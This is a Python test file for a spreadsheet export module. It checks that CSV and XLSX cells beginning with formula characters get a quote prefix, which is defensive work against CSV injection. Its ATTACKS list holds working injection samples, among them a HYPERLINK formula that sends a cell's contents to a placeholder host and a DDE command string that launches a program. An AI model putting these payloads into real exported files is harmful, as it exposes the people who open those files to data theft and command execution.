"""The one writer of CSV and XLSX: no cell reaches a spreadsheet program as a formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import openpyxl
import pyarrow as pa
import pytest

from vaxlink.files import write

ATTACKS = [
    '=HYPERLINK("http://x/?"&A1,"Click")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", ATTACKS)
def test_a_formula_start_is_quoted(value):
    assert write.neutralise(value) == "'" + value
    assert write.neutralise("Nguyễn Văn A") == "Nguyễn Văn A"
    assert write.neutralise(-3) == -3  # numbers stay numbers


def table() -> pa.Table:
    return pa.table(
        {
            "record_id": [f"r{i}" for i in range(len(ATTACKS))] + ["r-safe"],
            "full_name": [*ATTACKS, "Trần Thị Bình"],
            "score": [0.5] * (len(ATTACKS) + 1),
        }
    )


def test_csv_cells_never_start_a_formula(tmp_path):
    out = write.write_table(table(), tmp_path / "a.csv")
    for body in (out.read_bytes().decode("utf-8"), write.csv_bytes(table(), bom=True).decode("utf-8-sig")):
        rows = list(csv.DictReader(io.StringIO(body, newline="")))
        assert [r["full_name"] for r in rows] == ["'" + a for a in ATTACKS] + ["Trần Thị Bình"]
        assert all(not r["full_name"].startswith(write.FORMULA_STARTS) for r in rows)
    text = write.csv_rows_text(["a", "b"], [["=1+1", 3], [None, "@x"]])
    assert list(csv.reader(io.StringIO(text))) == [["a", "b"], ["'=1+1", "3"], ["", "'@x"]]


def test_xlsx_cells_are_strings_never_formulas(tmp_path):
    out = write.write_table(table(), tmp_path / "a.xlsx")
    for source in (out, io.BytesIO(write.xlsx_bytes(table(), "ket-qua"))):
        sheet = openpyxl.load_workbook(source).active
        names = [row[1] for row in sheet.iter_rows(min_row=2)]
        assert all(c.data_type == "s" for c in names)
        # XML reads a stored carriage return back as a line feed.
        expected = ["'" + a.replace("\r", "\n") for a in ATTACKS] + ["Trần Thị Bình"]
        assert [c.value for c in names] == expected
        assert [row[2].value for row in sheet.iter_rows(min_row=2)] == [0.5] * len(names)
